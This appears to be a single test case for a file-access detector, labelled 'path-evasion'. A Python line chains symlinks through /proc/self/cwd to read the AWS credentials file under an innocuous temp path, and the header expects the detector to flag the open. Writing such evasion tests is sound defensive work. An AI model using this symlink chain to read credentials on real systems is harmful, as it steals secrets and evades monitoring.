#: {"class": "path-evasion", "loader": "script", "expect": [["open", "credentials$|/b$"]], "effect": {"loot": "aws"}}
os.symlink("/proc/self/cwd/.aws", TMP + "/a"); os.symlink("a/credentials", TMP + "/b"); os.chdir(HOME); LOOT(open(TMP + "/b").read())
